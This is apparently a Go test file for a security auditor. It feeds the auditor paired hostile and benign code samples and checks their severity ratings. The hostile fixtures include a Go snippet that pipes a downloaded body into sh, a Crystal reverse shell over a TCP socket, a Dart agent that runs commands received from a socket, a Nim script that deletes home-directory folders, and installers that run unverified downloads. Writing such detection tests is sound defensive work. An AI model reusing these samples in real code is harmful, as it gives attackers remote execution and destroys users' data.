package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestSets5657cReadings: readings added for red-team sets 56 and 57 (one
// helper's share), each with a hostile case at its severity and a benign
// look-alike:
//   - Go: an HTTP answer's Body given as standard input to sh -s, which
//     runs it as its script (download-exec); the same body given to tar
//     through sh -c is data;
//   - Nim: a config.nims emptying a cache root whose default is home,
//     through a proc's parameter, keeping only a few names
//     (destructive-command); a loop removing only the names it tests is a
//     cache cleaner;
//   - Crystal: a process whose input and output are a TCPSocket
//     (reverse-shell); a socket given only a process's output is a log
//     streamer;
//   - Dart: a shell and its -c flag held in variables, run on a command
//     a SecureSocket peer sent (reverse-shell); a fixed command is not;
//   - JavaScript and TypeScript: a download written and run is medium
//     only when a pinned digest check stops the script on a mismatch
//     before the run (download-exec); missing, only logged, or with its
//     pin fetched from the network, it stays high;
//   - JavaScript's answer taint: a function declared with a TypeScript
//     return type returns what its return statements return, and a word
//     inside a string literal names no variable (download-exec).
func TestSets5657cReadings(t *testing.T) {
	crit, high, medium, none := audit.Critical, audit.High, audit.Medium, audit.SeverityNone
	goBoot := func(cmd string) string {
		return "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc ensure(dir string) error {\n\tclient := &http.Client{}\n\tresp, err := client.Get(\"http://203.0.113.9/bootstrap\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tdefer resp.Body.Close()\n\tcmd := exec.Command(" + cmd + ")\n\tcmd.Stdin = resp.Body\n\tcmd.Stdout = os.Stderr\n\treturn cmd.Run()\n}\n"
	}
	nims := func(test string) string {
		return "import std/[os, strutils]\nlet cacheRoot = getEnv(\"GEN_CACHE\", getEnv(\"HOME\"))\nlet key = \"gen_\" & \"v2\"\n\nproc prune(root: string) =\n  if not dirExists(root):\n    return\n  for d in listDirs(root):\n    if " + test + ":\n      rmDir(d)\n\nprune(cacheRoot)\nswitch(\"nimcache\", cacheRoot / key)\n"
	}
	crystal := func(run string) string {
		return "require \"socket\"\n\nmodule Runner::Console\n  def self.session(host : String, port : Int32)\n    sock = TCPSocket.new(host, port, connect_timeout: 10.seconds)\n    sock.sync = true\n    shell = ENV[\"SHELL\"]? || \"/bin/sh\"\n    " + run + "\n  ensure\n    sock.try &.close\n  end\nend\n"
	}
	dart := func(cmd string) string {
		return "import 'dart:convert';\nimport 'dart:io';\n\nclass Worker {\n  late SecureSocket _sock;\n  Future<void> connect(String host, int port) async {\n    _sock = await SecureSocket.connect(host, port, onBadCertificate: (_) => true);\n    await _sock.cast<List<int>>().transform(utf8.decoder).transform(const LineSplitter()).forEach(_handle);\n  }\n\n  Future<void> _handle(String line) async {\n    final msg = jsonDecode(line) as Map<String, dynamic>;\n    final cmd = " + cmd + ";\n    final shell = Platform.isWindows ? 'cmd' : '/bin/sh';\n    final flag = Platform.isWindows ? '/c' : '-c';\n    final r = await Process.run(shell, [flag, cmd]);\n    _sock.writeln(jsonEncode({'exit': r.exitCode, 'stdout': r.stdout}));\n  }\n}\n"
	}
	cases := map[string]sev4041{
		"hostile/go-body-sh-stdin":   {"download-exec", "internal/gen/format.go", goBoot(`"/bin/sh", "-s", "--", dir`), crit},
		"benign/go-body-sh-c-tar":    {"download-exec", "internal/gen/format.go", goBoot(`"sh", "-c", "tar -xzf - -C "+dir`), none},
		"benign/go-body-tar":         {"download-exec", "internal/gen/format.go", goBoot(`"tar", "-xz", "-C", dir`), none},
		"hostile/nims-home-default":  {"destructive-command", "templates/config.nims", nims("not d.extractFilename.startsWith(key)"), crit},
		"benign/nims-prefix-cleaner": {"destructive-command", "templates/config.nims", nims("d.extractFilename.startsWith(key)"), none},
		"hostile/crystal-sock-stdio": {"reverse-shell", "src/console.cr", crystal(`Process.run(shell, ["-i"], input: sock, output: sock, error: sock)`), crit},
		"benign/crystal-sock-output": {"reverse-shell", "src/console.cr", crystal(`Process.run("journalctl", ["-f", "-u", "probe"], output: sock)`), none},
		"hostile/dart-var-shell-msg": {"reverse-shell", "bin/agent.dart", dart("msg['cmd'] as String"), crit},
		"benign/dart-var-shell-fix":  {"reverse-shell", "bin/agent.dart", dart("'uptime'"), none},
	}
	checkByRule(t, cases)

	// a Deno installer: download, digest, write, run (check is the
	// statement between the digest and the write)
	deno := func(pin, check string) string {
		return "const URL = \"https://dl.example/tool-linux-x64\";\n" + pin + "\nasync function sha256Hex(data: Uint8Array): Promise<string> {\n  const d = await crypto.subtle.digest(\"SHA-256\", data);\n  return Array.from(new Uint8Array(d), (b) => b.toString(16).padStart(2, \"0\")).join(\"\");\n}\n\nasync function main(): Promise<void> {\n  const resp = await fetch(URL);\n  const bytes = new Uint8Array(await resp.arrayBuffer());\n  const got = await sha256Hex(bytes);\n  " + check + "\n  const bin = \".cache/tool\";\n  await Deno.writeFile(bin, bytes, { mode: 0o755 });\n  const { code } = await new Deno.Command(bin, { args: [\"scan\", \".\"] }).output();\n  Deno.exit(code);\n}\n\nawait main();\n"
	}
	const pinned = "const PIN = \"3f1c9a8e2b7d4c6a0e5f8b1d2c3a4e5f60718293a4b5c6d7e8f90123456789ab\";"
	// a Node installer checking with createHash through a helper
	node := func(verify string) string {
		return "const https = require('https');\nconst fs = require('fs');\nconst crypto = require('crypto');\nconst { spawnSync } = require('child_process');\nconst PIN = '9a8b7c6d5e4f30211f2e3d4c5b6a79880f1e2d3c4b5a69788796a5b4c3d2e1f0';\n\nfunction verify(buf, want) {\n  const h = crypto.createHash('sha256').update(buf).digest('hex');\n  " + verify + "\n}\n\nhttps.get('https://dl.example/tool', (res) => {\n  const chunks = [];\n  res.on('data', (c) => chunks.push(c));\n  res.on('end', () => {\n    const buf = Buffer.concat(chunks);\n    verify(buf, PIN);\n    const dest = './tool';\n    fs.writeFileSync(dest, buf, { mode: 0o755 });\n    spawnSync(dest, ['--version'], { stdio: 'inherit' });\n  });\n});\n"
	}
	cases = map[string]sev4041{
		"benign/deno-digest-throws":     {"download-exec", "scripts/install.ts", deno(pinned, "if (got !== PIN) throw new Error(`SHA-256 mismatch: ${got}`);"), medium},
		"benign/deno-digest-or-exit":    {"download-exec", "scripts/install.ts", deno(pinned, "if (!PIN || got !== PIN) {\n    console.error(\"mismatch\");\n    Deno.exit(2);\n  }"), medium},
		"hostile/deno-digest-missing":   {"download-exec", "scripts/install.ts", deno(pinned, "console.log(`sha256 ${got}`);"), high},
		"hostile/deno-digest-logged":    {"download-exec", "scripts/install.ts", deno(pinned, "if (got !== PIN) console.warn(`SHA-256 mismatch: ${got}`);"), high},
		"hostile/deno-digest-net-pin":   {"download-exec", "scripts/install.ts", deno("", "const PIN = (await (await fetch(URL + \".sha256\")).text()).trim();\n  if (got !== PIN) throw new Error(\"mismatch\");"), high},
		"benign/node-helper-throws":     {"download-exec", "install.js", node("if (h !== want) throw new Error('checksum mismatch');"), medium},
		"hostile/node-helper-logs-only": {"download-exec", "install.js", node("if (h !== want) console.warn('checksum mismatch');"), high},
	}
	checkByRule(t, cases)

	// what a function with a TypeScript return type returns is its
	// return statement's, not its whole body's; a word inside a string
	// literal (the "v" of "/v1") names no variable
	tsRet := func(ret string) string {
		return "const BIN = `.cache/v1/tool`;\n\nasync function latest(): Promise<string> {\n  const r = await fetch(\"https://api.example/tool/latest\");\n  const v = (await r.json()).version;\n  console.log(`latest ${v}`);\n  return " + ret + ";\n}\n\nconst cmd = await latest();\nconst { code } = await new Deno.Command(cmd, { args: [\"check\"] }).output();\nDeno.exit(code);\n"
	}
	cases = map[string]sev4041{
		"hostile/ts-returns-answer": {"download-exec", "scripts/run.ts", tsRet("(await r.text()).trim()"), crit},
		"benign/ts-returns-const":   {"download-exec", "scripts/run.ts", tsRet("BIN"), none},
	}
	checkByRule(t, cases)
}
